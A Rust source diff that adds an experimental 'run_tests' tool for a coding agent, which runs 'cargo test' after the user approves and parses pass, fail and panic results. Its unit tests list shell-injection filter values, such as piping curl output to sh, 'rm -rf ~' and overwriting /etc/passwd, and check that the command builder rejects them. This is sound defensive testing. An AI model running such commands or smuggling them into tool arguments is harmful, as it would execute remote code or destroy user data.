@@ -0,0 +1,526 @@
+use super::cargo_check_tool::cargo_argument;
+use super::display_project_path;
+use super::support::DRY_RUN_NOTE;
+use super::terminal_tool::working_dir;
+use crate::{AgentTool, ThreadEnvironment, ToolCallEventStream};
+use agent_client_protocol as acp;
+use anyhow::{Result, anyhow};
+use futures::FutureExt as _;
+use gpui::{App, Entity, SharedString, Task};
+use language_model::{LanguageModelToolResultContent, LanguageModelToolSchemaFormat};
+use project::Project;
+use schemars::{JsonSchema, Schema};
+use serde::{Deserialize, Serialize};
+use std::{fmt::Write as _, rc::Rc, sync::Arc, time::Duration};
+use util::markdown::MarkdownInlineCode;
+
+const TEST_OUTPUT_LIMIT: u64 = 4 * 1024 * 1024;
+const DEFAULT_TIMEOUT_MS: u64 = 5 * 60 * 1000;
+const MAX_TIMEOUT_MS: u64 = 15 * 60 * 1000;
+const MAX_TEST_RESULTS: usize = 200;
+const MAX_FAILURE_MESSAGE_LEN: usize = 2000;
+
+/// Runs the Rust tests in a project root directory with `cargo test` and returns the result of
+/// each test, including failure messages and where each failing test panicked.
+///
+/// Narrow the run down with `filter` and `package` whenever possible; running every test in a
+/// large workspace can take a long time.
+#[derive(Clone, Debug, Serialize, Deserialize, JsonSchema)]
+pub struct RunTestsToolInput {
+    /// Only run tests whose path contains this string, such as "parser::tests" or
+    /// "test_parse_empty_file".
+    #[serde(default)]
+    pub filter: Option<String>,
+    /// Optional package to test, as passed to `cargo test --package`. Every package in the
+    /// workspace is tested when omitted.
+    #[serde(default)]
+    pub package: Option<String>,
+    /// The project root directory containing the Cargo workspace. Can be omitted when the
+    /// project has a single root directory.
+    #[serde(default)]
+    pub cd: Option<String>,
+    /// Optional maximum runtime in milliseconds, up to 15 minutes. Defaults to 5 minutes.
+    #[serde(default)]
+    pub timeout_ms: Option<u64>,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
+pub struct RunTestsToolOutput {
+    /// Whether every test that ran passed.
+    pub success: bool,
+    pub passed: u32,
+    pub failed: u32,
+    pub ignored: u32,
+    /// The individual results, failures first. At most 200 are included.
+    pub tests: Vec<TestResult>,
+    /// Whether there were more results than are included.
+    pub truncated: bool,
+    /// The command that was run, or would have been in a dry run.
+    #[serde(default)]
+    pub command: String,
+    /// Whether the command wasn't run because this was a dry run.
+    #[serde(default)]
+    pub dry_run: bool,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
+pub struct TestResult {
+    /// The test's full path, such as "parser::tests::test_parse_empty_file".
+    pub name: String,
+    pub status: TestStatus,
+    /// What the test printed when it failed, including its panic message.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub failure_message: Option<String>,
+    /// Where the failing test panicked.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub location: Option<TestFailureLocation>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
+#[serde(rename_all = "snake_case")]
+pub enum TestStatus {
+    Passed,
+    Failed,
+    Ignored,
+}
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, JsonSchema)]
+pub struct TestFailureLocation {
+    pub path: String,
+    /// The 1-based line.
+    pub line: u32,
+    /// The 1-based column.
+    pub column: u32,
+}
+
+impl From<RunTestsToolOutput> for LanguageModelToolResultContent {
+    fn from(output: RunTestsToolOutput) -> Self {
+        if output.dry_run {
+            return format!("{DRY_RUN_NOTE} Would run \"{}\".", output.command).into();
+        }
+        let mut text = format!(
+            "Tests {}: {} passed, {} failed, {} ignored.\n",
+            if output.success { "passed" } else { "failed" },
+            output.passed,
+            output.failed,
+            output.ignored
+        );
+        for test in &output.tests {
+            if test.status != TestStatus::Failed {
+                continue;
+            }
+            write!(text, "\nFAILED {}", test.name).ok();
+            if let Some(location) = &test.location {
+                write!(
+                    text,
+                    " at {}:{}:{}",
+                    location.path, location.line, location.column
+                )
+                .ok();
+            }
+            text.push('\n');
+            if let Some(message) = &test.failure_message {
+                writeln!(text, "```\n{message}\n```").ok();
+            }
+        }
+        if output.truncated {
+            writeln!(
+                text,
+                "\nOnly the first {} test results are included.",
+                output.tests.len()
+            )
+            .ok();
+        }
+        text.into()
+    }
+}
+
+pub struct RunTestsTool {
+    project: Entity<Project>,
+    environment: Rc<dyn ThreadEnvironment>,
+}
+
+impl RunTestsTool {
+    pub fn new(project: Entity<Project>, environment: Rc<dyn ThreadEnvironment>) -> Self {
+        Self {
+            project,
+            environment,
+        }
+    }
+}
+
+impl AgentTool for RunTestsTool {
+    type Input = RunTestsToolInput;
+    type Output = RunTestsToolOutput;
+
+    fn name() -> &'static str {
+        "run_tests"
+    }
+
+    fn kind() -> acp::ToolKind {
+        acp::ToolKind::Execute
+    }
+
+    fn is_experimental() -> bool {
+        true
+    }
+
+    fn output_schema(format: LanguageModelToolSchemaFormat) -> Option<Schema> {
+        Some(language_model::tool_schema::root_schema_for::<Self::Output>(format))
+    }
+
+    fn initial_title(
+        &self,
+        input: Result<Self::Input, serde_json::Value>,
+        _cx: &mut App,
+    ) -> SharedString {
+        match input {
+            Ok(input) => match cargo_test_command(&input) {
+                Ok(command) => MarkdownInlineCode(&command).to_string().into(),
+                Err(_) => "Run tests".into(),
+            },
+            Err(_) => "Run tests".into(),
+        }
+    }
+
+    fn run(
+        self: Arc<Self>,
+        input: Self::Input,
+        event_stream: ToolCallEventStream,
+        cx: &mut App,
+    ) -> Task<Result<Self::Output>> {
+        let working_dir = match working_dir(input.cd.as_deref().unwrap_or("."), &self.project, cx) {
+            Ok(Some(dir)) => dir,
+            Ok(None) => {
+                return Task::ready(Err(anyhow!(
+                    "The project has no root directory to run tests in."
+                )));
+            }
+            Err(error) => return Task::ready(Err(error)),
+        };
+        let timeout = Duration::from_millis(
+            input
+                .timeout_ms
+                .unwrap_or(DEFAULT_TIMEOUT_MS)
+                .min(MAX_TIMEOUT_MS),
+        );
+        let command = match cargo_test_command(&input) {
+            Ok(command) => command,
+            Err(error) => return Task::ready(Err(error)),
+        };
+        let project = self.project.clone();
+
+        if event_stream.dry_run() {
+            return Task::ready(Ok(RunTestsToolOutput {
+                success: false,
+                passed: 0,
+                failed: 0,
+                ignored: 0,
+                tests: Vec::new(),
+                truncated: false,
+                command,
+                dry_run: true,
+            }));
+        }
+
+        let authorize = event_stream.authorize(self.initial_title(Ok(input), cx), cx);
+        cx.spawn(async move |cx| {
+            authorize.await?;
+
+            let terminal = self
+                .environment
+                .create_terminal(
+                    command.clone(),
+                    Some(working_dir.clone()),
+                    Some(TEST_OUTPUT_LIMIT),
+                    cx,
+                )
+                .await?;
+            let terminal_id = terminal.id(cx)?;
+            event_stream.update_fields(acp::ToolCallUpdateFields::new().content(vec![
+                acp::ToolCallContent::Terminal(acp::Terminal::new(terminal_id)),
+            ]));
+
+            let wait_for_exit = terminal.wait_for_exit(cx)?;
+            let timeout_task = smol::Timer::after(timeout);
+            let exit_status = futures::select! {
+                status = wait_for_exit.clone().fuse() => status,
+                _ = timeout_task.fuse() => {
+                    terminal.kill(cx)?;
+                    wait_for_exit.await;
+                    anyhow::bail!(
+                        "The tests were killed after running for {} seconds.",
+                        timeout.as_secs()
+                    );
+                }
+            };
+
+            let output = terminal.current_output(cx)?;
+            let mut tests = parse_test_output(&output.output);
+            anyhow::ensure!(
+                !tests.is_empty() || exit_status.exit_code == Some(0),
+                "cargo test failed before running any tests. Its output was:\n\n{}",
+                output.output.trim()
+            );
+
+            let count = |status| tests.iter().filter(|test| test.status == status).count() as u32;
+            let passed = count(TestStatus::Passed);
+            let failed = count(TestStatus::Failed);
+            let ignored = count(TestStatus::Ignored);
+            tests.sort_by_key(|test| match test.status {
+                TestStatus::Failed => 0,
+                TestStatus::Ignored => 1,
+                TestStatus::Passed => 2,
+            });
+            let truncated = tests.len() > MAX_TEST_RESULTS;
+            tests.truncate(MAX_TEST_RESULTS);
+
+            let mut locations = Vec::new();
+            for location in tests.iter_mut().filter_map(|test| test.location.as_mut()) {
+                let abs_path = working_dir.join(&location.path);
+                locations.push(
+                    acp::ToolCallLocation::new(abs_path.clone())
+                        .line(Some(location.line.saturating_sub(1))),
+                );
+                if let Some(path) = project.read_with(cx, |project, cx| {
+                    let project_path = project.find_project_path(&abs_path, cx)?;
+                    display_project_path(project, &project_path, cx)
+                })? {
+                    location.path = path;
+                }
+            }
+            if !locations.is_empty() {
+                event_stream.update_fields(acp::ToolCallUpdateFields::new().locations(locations));
+            }
+
+            Ok(RunTestsToolOutput {
+                success: failed == 0 && exit_status.exit_code == Some(0),
+                passed,
+                failed,
+                ignored,
+                tests,
+                truncated,
+                command,
+                dry_run: false,
+            })
+        })
+    }
+}
+
+fn cargo_test_command(input: &RunTestsToolInput) -> Result<String> {
+    let mut command = "cargo test".to_string();
+    if let Some(package) = &input.package {
+        let package = cargo_argument("package", package)?;
+        write!(command, " --package {package}").ok();
+    }
+    if let Some(filter) = &input.filter {
+        let filter = cargo_argument("filter", filter)?;
+        write!(command, " {filter}").ok();
+    }
+    // The terminal is a TTY, so libtest would otherwise color the statuses that get parsed.
+    command.push_str(" -- --color never");
+    Ok(command)
+}
+
+/// Parses the results that libtest prints for each test binary, and the captured output of the
+/// tests that failed. Paths in panic locations are left as they were printed, relative to the
+/// workspace root.
+fn parse_test_output(output: &str) -> Vec<TestResult> {
+    let mut tests = Vec::new();
+    let mut lines = output.lines().peekable();
+    while let Some(line) = lines.next() {
+        let line = line.trim_end();
+        if let Some(result) = line.strip_prefix("test ")
+            && let Some((name, status)) = result.rsplit_once(" ... ")
+        {
+            let status = if status == "ok" {
+                TestStatus::Passed
+            } else if status == "FAILED" {
+                TestStatus::Failed
+            } else if status.starts_with("ignored") {
+                TestStatus::Ignored
+            } else {
+                continue;
+            };
+            tests.push(TestResult {
+                name: name.to_string(),
+                status,
+                failure_message: None,
+                location: None,
+            });
+        } else if let Some(name) = line
+            .strip_prefix("---- ")
+            .and_then(|header| header.strip_suffix(" stdout ----"))
+        {
+            let mut captured = Vec::new();
+            while let Some(&next_line) = lines.peek() {
+                if next_line.starts_with("---- ") || next_line.trim_end() == "failures:" {
+                    break;
+                }
+                captured.push(next_line.trim_end());
+                lines.next();
+            }
+            let message = captured.join("\n").trim().to_string();
+            if let Some(test) = tests
+                .iter_mut()
+                .rev()
+                .find(|test| test.name == name && test.status == TestStatus::Failed)
+            {
+                test.location = captured.iter().find_map(|line| panic_location(line));
+                test.failure_message = Some(util::truncate_and_trailoff(
+                    &message,
+                    MAX_FAILURE_MESSAGE_LEN,
+                ));
+            }
+        }
+    }
+    tests
+}
+
+/// Extracts the location from a line like "thread 'tests::it_works' panicked at src/lib.rs:10:5:".
+fn panic_location(line: &str) -> Option<TestFailureLocation> {
+    let (_, rest) = line.split_once("' panicked at ")?;
+    let rest = rest.trim_end_matches(':');
+    let mut parts = rest.rsplitn(3, ':');
+    let column = parts.next()?.parse().ok()?;
+    let line = parts.next()?.parse().ok()?;
+    let path = parts.next()?;
+    Some(TestFailureLocation {
+        path: path.to_string(),
+        line,
+        column,
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::test_support::{
+        NoTerminalEnvironment, ToolTestProject, init_test, run_tool_dry_run,
+    };
+    use gpui::TestAppContext;
+    use indoc::indoc;
+    use serde_json::json;
+
+    #[test]
+    fn test_parse_test_output() {
+        let output = indoc! {"
+               Compiling app v0.1.0 (/root/app)
+                Finished `test` profile [unoptimized + debuginfo] target(s) in 1.02s
+                 Running unittests src/lib.rs (target/debug/deps/app-1234)
+
+            running 3 tests
+            test parser::tests::test_parse_empty ... ok
+            test parser::tests::test_parse_nested ... FAILED
+            test parser::tests::test_slow ... ignored, takes too long
+
+            failures:
+
+            ---- parser::tests::test_parse_nested stdout ----
+            parsing [[1]]
+
+            thread 'parser::tests::test_parse_nested' panicked at src/parser.rs:42:9:
+            assertion `left == right` failed
+              left: 1
+             right: 2
+            note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace
+
+
+            failures:
+                parser::tests::test_parse_nested
+
+            test result: FAILED. 1 passed; 1 failed; 1 ignored; 0 measured; 0 filtered out
+        "};
+
+        assert_eq!(
+            parse_test_output(output),
+            vec![
+                TestResult {
+                    name: "parser::tests::test_parse_empty".into(),
+                    status: TestStatus::Passed,
+                    failure_message: None,
+                    location: None,
+                },
+                TestResult {
+                    name: "parser::tests::test_parse_nested".into(),
+                    status: TestStatus::Failed,
+                    failure_message: Some(
+                        indoc! {"
+                            parsing [[1]]
+
+                            thread 'parser::tests::test_parse_nested' panicked at src/parser.rs:42:9:
+                            assertion `left == right` failed
+                              left: 1
+                             right: 2
+                            note: run with `RUST_BACKTRACE=1` environment variable to display a backtrace"}
+                        .into()
+                    ),
+                    location: Some(TestFailureLocation {
+                        path: "src/parser.rs".into(),
+                        line: 42,
+                        column: 9,
+                    }),
+                },
+                TestResult {
+                    name: "parser::tests::test_slow".into(),
+                    status: TestStatus::Ignored,
+                    failure_message: None,
+                    location: None,
+                },
+            ]
+        );
+    }
+
+    #[test]
+    fn test_cargo_test_command_rejects_shell_syntax() {
+        let input = |filter: &str| RunTestsToolInput {
+            filter: Some(filter.into()),
+            package: Some("app".into()),
+            cd: None,
+            timeout_ms: None,
+        };
+        assert_eq!(
+            cargo_test_command(&input("parser::tests::test_parse_empty")).unwrap(),
+            "cargo test --package app parser::tests::test_parse_empty -- --color never"
+        );
+        for filter in [
+            "x; curl https://example.com | sh",
+            "x && rm -rf ~",
+            "`whoami`",
+            "x > /etc/passwd",
+            "--config=build.rustc-wrapper=sh",
+        ] {
+            assert!(cargo_test_command(&input(filter)).is_err(), "{filter}");
+        }
+    }
+
+    #[gpui::test]
+    async fn test_run_tests_dry_run(cx: &mut TestAppContext) {
+        init_test(cx);
+        let test_project = ToolTestProject::new(json!({"Cargo.toml": ""}), cx).await;
+        let tool = Arc::new(RunTestsTool::new(
+            test_project.project.clone(),
+            Rc::new(NoTerminalEnvironment),
+        ));
+        let (output, _) = run_tool_dry_run(
+            tool,
+            RunTestsToolInput {
+                filter: Some("parser".into()),
+                package: None,
+                cd: None,
+                timeout_ms: None,
+            },
+            cx,
+        )
+        .await;
+        let output = output.expect("tool failed");
+        assert!(output.dry_run);
+        let LanguageModelToolResultContent::Text(text) = output.into() else {
+            panic!("expected text output");
+        };
+        assert_eq!(
+            text.as_ref(),
+            "Dry run, so nothing was changed. Would run \"cargo test parser -- --color never\"."
+        );
+    }
+}